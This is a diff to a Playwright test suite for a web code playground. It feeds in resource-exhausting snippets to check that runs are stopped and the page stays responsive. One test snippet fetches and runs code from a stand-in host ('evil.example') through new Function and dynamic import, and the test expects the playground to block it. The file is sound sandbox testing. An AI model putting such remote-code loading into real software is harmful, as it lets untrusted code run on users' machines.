@@ -8,12 +8,14 @@ interface Hostile {
   code: string;
   /** What the Output panel must say about it. */
   expected: RegExp;
+  /** The code is still running 5 s later unless the time limit stops it. */
+  longRunning?: boolean;
 }
 
 const SNIPPETS: Hostile[] = [
-  { name: 'an endless loop', code: 'while (true) {}', expected: /Stopped after 5 s: the code was still running/ },
+  { name: 'an endless loop', code: 'while (true) {}', expected: /Stopped after 5 s: the code was still running/, longRunning: true },
   { name: 'unbounded recursion', code: 'function down(n: number): number { return down(n + 1) + 1; }\ndown(0);', expected: /RangeError[^:]*: Maximum call stack size exceeded/ },
-  { name: 'a promise that never settles', code: 'await new Promise(() => {});', expected: /Stopped after 5 s/ },
+  { name: 'a promise that never settles', code: 'await new Promise(() => {});', expected: /Stopped after 5 s/, longRunning: true },
   { name: 'a 1 GB allocation that keeps growing', code: 'const hoard: Uint8Array[] = [];\nwhile (true) hoard.push(new Uint8Array(1024 * 1024 * 1024));', expected: /Stopped after|crashed|memory|Array buffer allocation failed|Invalid typed array length/i },
   { name: 'throwing a number', code: 'throw 42;', expected: /42/ },
   { name: 'throwing a plain object', code: "throw { code: 'nope', detail: 'not an Error' };", expected: /nope/ },
@@ -27,19 +29,14 @@ const SNIPPETS: Hostile[] = [
   { name: 'eval of a remote import', code: "new Function('return import(\"https://evil.example/x.js\")')();", expected: /\[?playground\]?|not available|blocked/i },
 ];
 
-/** Milliseconds from a click on the page's theme picker until the page has handled it. */
-async function clickLatency(page: Page): Promise<number> {
-  return page.evaluate(async () => {
-    const select = document.querySelector<HTMLSelectElement>('starlight-theme-select select');
-    const start = performance.now();
-    await new Promise<void>((resolve) => {
-      const target = select ?? document.body;
-      target.addEventListener('click', () => resolve(), { once: true });
-      target.dispatchEvent(new MouseEvent('click', { bubbles: true }));
-    });
-    await new Promise((resolve) => requestAnimationFrame(() => resolve(undefined)));
-    return performance.now() - start;
-  });
+/**
+ * Switches the site theme the way a reader would and waits for the page to apply it. A main thread
+ * that a run had blocked would never handle the change; how fast it is handled is the bench's
+ * business (scripts/measure-playground.mjs), not a threshold here.
+ */
+async function switchThemeTo(page: Page, theme: 'light' | 'dark'): Promise<void> {
+  await page.getByRole('combobox', { name: 'Select theme' }).selectOption(theme);
+  await expect(page.locator('html')).toHaveAttribute('data-theme', theme, { timeout: 2_000 });
 }
 
 for (const snippet of SNIPPETS) {
@@ -51,9 +48,13 @@ for (const snippet of SNIPPETS) {
     const output = region.getByRole('log', { name: 'Output' });
 
     await region.getByRole('button', { name: 'Run' }).click();
-    // While it runs (or right after, for the quick ones) the page answers clicks promptly.
-    const latency = await clickLatency(page);
-    expect(latency, 'the page must stay responsive').toBeLessThan(200);
+    // While it runs (or right after, for the quick ones) the page still takes a reader's input.
+    if (snippet.longRunning) await expect(region.getByRole('button', { name: 'Stop' })).toBeEnabled();
+    await switchThemeTo(page, 'light');
+    await switchThemeTo(page, 'dark');
+    if (snippet.longRunning) {
+      await expect(region.getByRole('button', { name: 'Stop' }), 'the theme changed while the run was still going').toBeEnabled();
+    }
     await expect(output).toContainText(snippet.expected, { timeout: 15_000 });
     await expect(region.getByRole('button', { name: 'Run' })).toBeEnabled({ timeout: 15_000 });
 
